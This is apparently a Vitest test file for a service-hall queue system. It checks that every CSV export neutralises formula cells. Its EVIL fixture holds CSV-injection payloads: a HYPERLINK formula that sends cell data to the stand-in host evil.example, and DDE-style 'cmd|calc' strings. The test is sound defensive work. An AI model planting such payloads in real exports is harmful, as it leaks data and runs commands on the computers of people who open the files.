import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoHall } from '../../server/demoHall.ts';
import { startHub, type TestHub } from '../support/hub.ts';

/**
 * Names a manager types into the hall file end up in every export. A cell that starts like a
 * formula must reach the spreadsheet as text, in the wait report as in the score exports.
 */
const EVIL = {
  service: '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
  window: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  staff: '+1+cmd|calc',
  staff2: '-2+3',
  tab: '\t=1+1',
};

const config = {
  ...demoHall,
  services: demoHall.services.map((s, i) => (i === 0 ? { ...s, name: EVIL.service } : s)),
  windows: demoHall.windows.map((w, i) => (i === 0 ? { ...w, name: EVIL.window } : w)),
  staff: demoHall.staff.map((s) => (s.id === 'S01' ? { ...s, name: EVIL.staff } : s.id === 'S02' ? { ...s, name: EVIL.staff2 } : s.id === 'S03' ? { ...s, name: EVIL.tab } : s)),
};

function cells(csv: string): string[] {
  // Quoted cells may hold commas: split on commas outside quotes.
  const out: string[] = [];
  for (const line of csv.replace(/^\ufeff/, '').trim().split('\r\n')) {
    for (const m of line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)) {
      if (m[0] === '') continue;
      let c = m[1]!;
      if (c.startsWith('"')) c = c.slice(1, -1).replaceAll('""', '"');
      out.push(c);
    }
  }
  return out;
}

describe('every CSV the hub writes neutralises formula cells', () => {
  let h: TestHub;
  let manager: string;
  beforeAll(async () => {
    h = await startHub({ config });
    manager = await h.login('M01');
    const s1 = await h.login('S01');
    const s3 = await h.login('S03');
    await h.api('POST', '/api/windows/W1/sign-in', { post: 'A' }, s1);
    await h.api('POST', '/api/windows/W3/sign-in', { post: 'A' }, s3);
    for (const serviceId of ['A', 'B']) {
      await h.api('POST', '/api/tickets', { serviceId });
    }
    h.clock.advance(60_000);
    for (const [w, tok] of [['W1', s1], ['W3', s3]] as const) {
      expect((await h.api('POST', `/api/windows/${w}/call-next`, undefined, tok)).status).toBe(200);
      h.clock.advance(60_000);
      expect((await h.api('POST', `/api/windows/${w}/finish`, { outcome: 'done' }, tok)).status).toBe(200);
    }
  });
  afterAll(() => h.close());

  const get = async (path: string) => {
    const res = await fetch(h.url + path, { headers: { authorization: `Bearer ${manager}` } });
    expect(res.status).toBe(200);
    return res.text();
  };

  it.each(['service', 'window', 'staff'])('the wait report grouped by %s', async (groupBy) => {
    const csv = await get(`/api/reports/waits?from=2026-11-23&to=2026-11-23&format=csv&groupBy=${groupBy}`);
    const all = cells(csv);
    const evil = all.filter((c) => Object.values(EVIL).some((e) => c.includes(e)));
    expect(evil.length).toBeGreaterThan(0);
    for (const c of evil) expect(c.startsWith("'")).toBe(true);
    for (const c of all) expect(c).not.toMatch(/^[=+@\t\r]/);
  });

  it('the day scores and the month roll-up', async () => {
    for (const path of ['/api/reports/scores?date=2026-11-23&format=csv', '/api/reports/scores/rollup?period=month&of=2026-11&format=csv']) {
      const all = cells(await get(path));
      const evil = all.filter((c) => Object.values(EVIL).some((e) => c.includes(e)));
      expect(evil.length).toBeGreaterThan(0);
      for (const c of evil) expect(c.startsWith("'")).toBe(true);
      for (const c of all) expect(c).not.toMatch(/^[=+@\t\r]/);
    }
  });

  it('plain numbers, negative ones too, stay numbers', async () => {
    const { csvCell } = await import('../../server/csv.ts');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell('-2.5')).toBe('-2.5');
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });
});
